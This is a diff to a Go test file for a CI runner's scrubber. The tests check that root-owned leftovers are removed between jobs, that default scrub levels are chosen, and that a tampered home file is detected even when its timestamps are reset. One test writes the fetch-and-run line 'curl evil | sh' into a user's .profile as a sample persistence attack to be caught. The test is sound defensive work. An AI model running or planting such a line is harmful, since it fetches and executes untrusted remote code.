@@ -90,16 +90,114 @@ func TestScrub_Levels_H42(t *testing.T) {
 	}
 }
 
-// H42: a file of the image that a job changed cannot be restored.
+// H42: a file of root's that a job left in the home of its user, or where everybody may read it, does not
+// reach the next run. What was there before stays, and what is private to a service does.
+func TestScrub_RootsFiles_H42(t *testing.T) {
+	s, put := place(t)
+	s.Whole = true
+	mode := func(path string, m os.FileMode) {
+		t.Helper()
+		if err := os.Chmod(filepath.Join(s.System, path), m); err != nil {
+			t.Fatal(err)
+		}
+	}
+	put(stranger, "people/stranger/.profile", "of the image")
+	put(0, "people/stranger/.ssh/authorized_keys", "of the image")
+	put(0, "var/tmp/cache", "of the image")
+	put(0, "tmp/socket", "of a service")
+	home := filepath.Join(s.System, "people/stranger")
+	if err := os.Lchown(home, stranger, stranger); err != nil {
+		t.Fatal(err)
+	}
+	before, err := s.temporaryFiles()
+	if err != nil {
+		t.Fatal(err)
+	}
+	files, err := s.homeFiles()
+	if err != nil {
+		t.Fatal(err)
+	}
+	was := Baseline{Home: files, Temporary: before}
+	gone := []string{
+		"people/stranger/.bashrc", "people/stranger/.ssh/rc", "people/stranger/.cache/deep/file", "tmp/build/deep/file", "tmp/file", "dev/shm/file",
+	}
+	kept := []string{
+		"people/stranger/.profile", "people/stranger/.ssh/authorized_keys", "var/tmp/cache", "tmp/socket", "tmp/private/file", "etc/passwd",
+		"tmp/instance/state",
+	}
+	for _, path := range append([]string{"tmp/private/file", "etc/passwd"}, gone...) {
+		put(0, path, "x")
+	}
+	mode("tmp/private", 0o700)
+	if err := s.removeUsers(was); err != nil {
+		t.Fatalf("removeUsers = %v", err)
+	}
+	for _, path := range gone {
+		if exists(filepath.Join(s.System, path)) {
+			t.Errorf("%s reaches the next run", path)
+		}
+	}
+	for _, path := range kept {
+		if !exists(filepath.Join(s.System, path)) {
+			t.Errorf("%s is gone, and was not the run's", path)
+		}
+	}
+	s.Whole = false
+	put(0, "tmp/other", "of another user of the computer")
+	if err := s.removeUsers(was); err != nil || !exists(filepath.Join(s.System, "tmp/other")) {
+		t.Errorf("on a computer shared with others removeUsers = %v, and left tmp/other: %v", err, exists(filepath.Join(s.System, "tmp/other")))
+	}
+	put(0, "people/stranger/.ssh/authorized_keys", "of the job's")
+	if err := s.removeUsers(was); err == nil || !strings.Contains(err.Error(), "authorized_keys was changed") {
+		t.Errorf("removeUsers after a change of root's file = %v", err)
+	}
+}
+
+// H42: without a level in the configuration everything of a run goes where that can be told.
+func TestScrub_DefaultLevel_H42(t *testing.T) {
+	user := &RunnerUser{UID: stranger}
+	for _, tt := range []struct {
+		scrubber Scrubber
+		want     ScrubLevel
+	}{
+		{Scrubber{Whole: true, User: user}, ScrubFull},
+		{Scrubber{Whole: true}, ScrubWorkspace},
+		{Scrubber{User: user}, ScrubWorkspace},
+		{Scrubber{Whole: true, User: user, Levels: map[string]ScrubLevel{"small": ScrubNone}}, ScrubNone},
+		{Scrubber{Whole: true, User: user, Levels: map[string]ScrubLevel{"small": ""}}, ScrubFull},
+	} {
+		if got := tt.scrubber.level("small"); got != tt.want {
+			t.Errorf("level of %+v = %s, want %s", tt.scrubber, got, tt.want)
+		}
+	}
+}
+
+// H42: a file of the image that a job changed cannot be restored, nor can the job hide it.
 func TestScrub_ChangedHome_NotClean_H42(t *testing.T) {
 	s, put := place(t)
 	put(stranger, "people/stranger/.profile", "of the image")
 	if err := s.TakeBaseline(t.Context()); err != nil {
 		t.Fatal(err)
 	}
-	put(stranger, "people/stranger/.profile", "curl evil | sh")
-	if err := s.Scrub(t.Context(), "full"); !errors.Is(err, ErrNotClean) || !strings.Contains(err.Error(), ".profile was changed") {
-		t.Errorf("Scrub = %v, want ErrNotClean because of .profile", err)
+	was, err := os.Stat(filepath.Join(s.System, "people/stranger/.profile"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	profile := filepath.Join(s.System, "people/stranger/.profile")
+	for _, text := range []string{"curl evil | sh", "by the image"} { // the second is as long as the first was
+		for changed := changedAt(was.Sys().(*syscall.Stat_t)); changed == changedAt(was.Sys().(*syscall.Stat_t)); { // the kernel's clock has ticks
+			if err := errors.Join(os.WriteFile(profile, []byte(text), 0o644), os.Chtimes(profile, was.ModTime(), was.ModTime())); err != nil {
+				t.Fatal(err)
+			}
+			now, err := os.Stat(profile)
+			if err != nil {
+				t.Fatal(err)
+			}
+			changed = changedAt(now.Sys().(*syscall.Stat_t))
+		}
+		if err := s.Scrub(t.Context(), "full"); !errors.Is(err, ErrNotClean) || !strings.Contains(err.Error(), ".profile was changed") {
+			t.Errorf("Scrub = %v, want ErrNotClean because of .profile", err)
+		}
 	}
 }
 
@@ -181,7 +279,7 @@ func TestCheck_AgainstBaseline_H42(t *testing.T) {
 const dockerStandIn = `#!/bin/sh
 cd "$(dirname "$0")" || exit 1
 case "$*" in
-info*) [ ! -e stopped ] && echo engine ;;
+info*) [ -e silent ] || { [ ! -e stopped ] && echo engine; } ;;
 "ps "*) ls containers ;;
 "volume ls"*) ls volumes ;;
 "network ls"*) ls networks ;;
@@ -237,6 +335,10 @@ func TestContainers_H42(t *testing.T) {
 	}
 	if err := removeContainers(ctx, nil); err != nil {
 		t.Errorf("removeContainers where there never was one = %v", err)
+	}
+	touch("silent")
+	if got, err := listContainers(ctx); got != nil || err != nil {
+		t.Errorf("listContainers of a program that succeeds without an engine = %v, %v", got, err)
 	}
 	t.Setenv("PATH", "/nowhere")
 	if got, err := listContainers(ctx); got != nil || err != nil {
